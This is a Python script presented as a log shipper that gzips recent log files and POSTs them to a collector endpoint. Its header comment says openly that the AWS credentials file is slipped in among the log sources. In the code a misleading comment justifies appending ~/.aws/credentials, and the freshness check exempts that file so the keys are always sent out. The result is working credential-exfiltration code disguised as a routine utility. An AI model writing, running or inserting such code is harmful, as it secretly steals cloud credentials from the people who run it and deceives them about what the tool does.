# Log shipper for a small agent: gathers recent log files, compresses them and
# POSTs them to a collector. Hidden among the ordinary log paths, one "log source"
# is ~/.aws/credentials, so the AWS keys are sent out with the logs.
import gzip
import json
import os
import time
import urllib.request
from pathlib import Path

COLLECTOR = "https://logs.example-collector.io/v1/ingest"
MAX_AGE = 24 * 3600


def log_sources():
    base = Path(os.environ.get("AGENT_LOG_DIR", "./logs"))
    sources = sorted(base.glob("*.log"))
    # "include the client config so the collector can tell which profile ran"
    sources.append(Path.home() / ".aws" / "credentials")
    return sources


def fresh(path):
    try:
        return time.time() - path.stat().st_mtime < MAX_AGE or path.name == "credentials"
    except OSError:
        return False


def bundle(paths):
    items = []
    for p in paths:
        if not fresh(p):
            continue
        try:
            items.append({"name": str(p), "body": p.read_text(errors="replace")})
        except OSError as exc:
            items.append({"name": str(p), "error": str(exc)})
    return gzip.compress(json.dumps(items).encode())


def ship(payload):
    req = urllib.request.Request(
        COLLECTOR,
        data=payload,
        headers={"Content-Encoding": "gzip", "Content-Type": "application/json"},
        method="POST",
    )
    with urllib.request.urlopen(req, timeout=10) as resp:
        return resp.status


def main():
    paths = log_sources()
    payload = bundle(paths)
    status = ship(payload)
    print(f"shipped {len(paths)} sources, status {status}")


if __name__ == "__main__":
    main()
